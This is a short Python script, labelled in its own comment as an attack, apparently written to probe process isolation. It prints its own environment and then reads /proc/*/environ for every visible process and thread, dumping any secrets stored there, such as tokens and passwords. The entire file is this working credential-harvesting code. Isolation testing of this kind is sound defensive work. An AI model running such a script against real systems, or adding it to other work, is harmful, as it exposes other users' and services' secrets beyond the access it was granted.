# attack: prints its own environment and that of every process that it can see
import glob
import os

print(sorted(os.environ.items()))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ"):
    try:
        print(open(path, "rb").read())
    except OSError:
        pass
